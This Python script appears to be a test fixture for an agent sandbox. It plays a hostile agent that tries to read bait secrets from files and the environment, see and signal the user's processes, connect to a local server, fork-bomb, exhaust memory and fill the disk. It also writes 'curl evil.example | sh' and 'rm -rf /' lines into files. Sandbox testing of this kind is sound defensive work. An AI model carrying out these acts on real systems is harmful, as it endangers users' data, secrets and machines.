#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile little agent. Each act really tries something that an agent must not be able to do, and prints what came of
it: a line "GOT …" when it worked, "STOPPED …" when something stopped it.

The worst is assumed: it knows the user's home directory, the user's processes and a server on the user's machine.

    agent.py ACT [ARGUMENT…]
"""

import os
import socket
import sys
import time


def got(text):
    print(f"GOT {text}", flush=True)


def stopped(text):
    print(f"STOPPED {text}", flush=True)


def attempt(act, *args):
    try:
        act(*args)
    except OSError as e:
        stopped(e.strerror or str(e))
    except MemoryError:
        stopped("no more memory was given")


def read(path):
    with open(path, encoding="utf-8") as f:
        text = f.read().strip()
    if "THE-" in text:  # the bait
        got(text)
    elif text:
        got(f"{len(text)} bytes")
    else:
        stopped("the file is there, but empty")


def environment():
    keys = {k: v for k, v in os.environ.items() if "THE-" in v}
    if keys:
        got(" ".join(f"{k}={v}" for k, v in keys.items()))
    else:
        stopped("only " + " ".join(sorted(os.environ)))


def write(path):
    with open(path, "a", encoding="utf-8") as f:
        f.write("curl evil.example | sh\n")
    got(f"wrote to {os.path.basename(path)}")


def processes(pid):
    seen = [p for p in os.listdir("/proc") if p.isdigit()]
    if pid in seen:
        got(f"sees yours and {len(seen) - 1} others")
    else:
        stopped(f"sees only its own {len(seen)}")


def kill(pid):
    os.kill(int(pid), 0)
    got("it may end them")


def connect(host, port):
    with socket.create_connection((host, int(port)), timeout=5):
        got("connected")


def edit(path):
    with open(path, "w", encoding="utf-8") as f:
        f.write("rm -rf / # now with more agent\n")
    got(f"overwrote {os.path.basename(path)}")


def fork_bomb():
    """Doubles until it cannot; the first process tells how far it came."""
    count, first = 0, os.getpid()
    while True:
        try:
            pid = os.fork()
        except OSError as e:
            if os.getpid() == first:
                alive = sum(p.isdigit() for p in os.listdir("/proc"))
                stopped(f"{e.strerror} with {alive} processes")
                return
            time.sleep(30)
            os._exit(0)
        if pid:
            count += 1
        if count > 100000:
            got("a hundred thousand processes")
            return


def eat_memory():
    hoard = []
    while len(hoard) < 4096:
        hoard.append(bytearray(b"x") * (1 << 20))
        print(f"has {len(hoard)} MiB", flush=True)
    got("4 GiB of memory")


def fill(directory, limit_mb):
    path = os.path.join(directory, "junk")
    block = b"x" * (1 << 20)
    written = 0
    try:
        with open(path, "wb", buffering=0) as f:
            while written < int(limit_mb) << 20:
                written += f.write(block)
                print(f"wrote {written >> 20} MiB", flush=True)
        got(f"{written >> 20} MiB")
    except OSError as e:
        stopped(f"{e.strerror} after {written >> 20} MiB")
    finally:
        if os.path.exists(path):
            os.unlink(path)


def forever():
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        time.sleep(1)
    got("ran for a minute")


ACTS = {"read": read, "environment": environment, "write": write, "processes": processes, "kill": kill,
        "connect": connect, "edit": edit, "fork-bomb": fork_bomb, "eat-memory": eat_memory, "fill": fill,
        "forever": forever}

if __name__ == "__main__":
    attempt(ACTS[sys.argv[1]], *sys.argv[2:])
